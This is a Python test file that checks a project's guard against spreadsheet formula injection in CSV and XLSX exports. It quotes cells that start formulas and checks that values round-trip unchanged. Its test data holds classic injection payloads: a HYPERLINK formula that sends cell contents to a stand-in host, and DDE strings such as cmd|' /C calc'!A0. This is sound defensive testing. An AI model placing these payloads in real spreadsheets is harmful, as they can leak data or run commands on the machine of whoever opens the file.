"""No cell the project writes is a formula (cube.config.sheets, issue 29 item 2): the CSV quote,
the XLSX string type, and reading the text back as it was."""

from __future__ import annotations

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cube.config.sheets import (
    FORMULA_START,
    guard,
    read_guarded_csv,
    unguard,
    write_csv,
    write_xlsx_sheet,
)

INJECTIONS = [
    '=HYPERLINK("http://x.example/?q="&B2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
]


def test_guard_quotes_exactly_the_formula_starts():
    for text in INJECTIONS:
        assert guard(text) == "'" + text and unguard(guard(text)) == text
    for text in ("plain", "'just a quote", "", "a=b", " =1"):
        assert guard(text) == text
    for number in (-1, -2.5, 0, 3):
        assert guard(number) == number  # numbers are written as numbers


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "1", " "])))
def test_unguard_inverts_guard_and_a_guarded_text_never_starts_a_formula(text):
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(FORMULA_START)


def test_csv_cells_are_text_and_read_back_as_written(tmp_path):
    frame = pd.DataFrame(
        {"answer": INJECTIONS, "score": [-1.5, 2, -3, 4, 5, 6, 7, 8], "=header": "-"}
    )
    path = write_csv(frame, tmp_path / "t.csv", index=False)
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    cells = [*raw.columns, *raw.to_numpy().ravel()]
    text_cells = [c for c in cells if not c.lstrip("-").replace(".", "").isdigit()]
    assert not [c for c in text_cells if c.startswith(FORMULA_START)]
    assert raw["score"].tolist()[:3] == ["-1.5", "2.0", "-3.0"]  # numbers, not quoted
    back = read_guarded_csv(path, dtype={"answer": str, "=header": str}, keep_default_na=False)
    assert back["answer"].tolist() == INJECTIONS and list(back.columns)[-1] == "=header"
    assert back["score"].tolist()[0] == -1.5


def test_xlsx_cells_are_strings_never_formulas(tmp_path):
    frame = pd.DataFrame({"answer": INJECTIONS, "n": range(-4, 4)})
    with pd.ExcelWriter(tmp_path / "t.xlsx", engine="openpyxl") as writer:
        write_xlsx_sheet(writer, frame, "ratings")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["ratings"]
    types = {c.data_type for row in sheet.iter_rows() for c in row}
    assert "f" not in types
    assert [c.value for c in sheet["A"][1:]] == INJECTIONS
    assert [c.value for c in sheet["B"][1:]] == list(range(-4, 4))  # numbers stay numbers


def test_plain_openpyxl_would_have_written_formulas(tmp_path):
    """What the string type prevents: openpyxl stores a string starting with = as a formula."""
    frame = pd.DataFrame({"answer": INJECTIONS})
    frame.to_excel(tmp_path / "plain.xlsx", index=False)
    sheet = openpyxl.load_workbook(tmp_path / "plain.xlsx").active
    assert sum(c.data_type == "f" for row in sheet.iter_rows() for c in row) >= 1


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "-bm25", "@sys"])
def test_a_table_index_and_columns_are_guarded(tmp_path, name):
    frame = pd.DataFrame({"cube": [50.0]}, index=pd.Index([name], name="system"))
    write_csv(frame, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert f"'{name}" in text
    back = read_guarded_csv(tmp_path / "t.csv", dtype={"system": str})
    assert back["system"].tolist() == [name]
